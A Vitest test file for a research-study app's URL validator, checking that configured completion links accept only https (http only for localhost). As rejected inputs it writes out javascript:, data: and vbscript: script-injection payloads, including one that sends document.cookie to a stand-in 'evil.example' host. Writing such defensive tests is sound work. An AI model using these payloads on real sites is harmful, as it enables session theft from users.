import { describe, expect, it } from 'vitest';
import { isSafeCompletionUrlTemplate, isSafeExternalUrl } from './safe-url';
import { studyConfigSchema, storedStudyConfigSchema } from '../studies/config';
import { issuesToErrors } from '../studies/form-errors';
import { starterStudyConfig } from '../studies/template';

describe('URLs from configuration', () => {
  it('accepts https anywhere and http only on this machine', () => {
    for (const ok of [
      'https://app.prolific.com/submissions/complete?cc=X',
      'HTTPS://example.org/',
      'http://localhost:3000/done',
      'http://127.0.0.1/done',
      'http://[::1]:8080/done',
    ])
      expect(isSafeExternalUrl(ok), ok).toBe(true);
    for (const bad of [
      'javascript:alert(document.cookie)',
      'JavaScript:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      'http://example.org/done',
      'http://localhost.evil.example/done',
      '//evil.example/done',
      '/relative/path',
      'not a url',
      '',
    ])
      expect(isSafeExternalUrl(bad), bad).toBe(false);
  });

  it('checks a completion template with the code filled in', () => {
    expect(isSafeCompletionUrlTemplate('https://app.prolific.com/submissions/complete?cc={code}')).toBe(true);
    expect(isSafeCompletionUrlTemplate('{code}')).toBe(false);
    expect(isSafeCompletionUrlTemplate('javascript:alert("{code}")')).toBe(false);
  });

  it('refuses a javascript: completion URL at save with a field error, but still reads an old stored version', () => {
    const config = { ...starterStudyConfig(), prolificCompletionUrl: 'javascript:fetch("//evil.example?c="+document.cookie)//{code}' };
    const result = studyConfigSchema.safeParse(config);
    expect(result.success).toBe(false);
    expect(issuesToErrors(result.error!.issues)).toEqual({
      prolificCompletionUrl: 'must be an https:// address (http:// only for localhost)',
    });
    // A version frozen before the rule still loads (participants mid-study get no error); its URL is checked at use.
    expect(storedStudyConfigSchema.parse(config).prolificCompletionUrl).toBe(config.prolificCompletionUrl);
  });
});
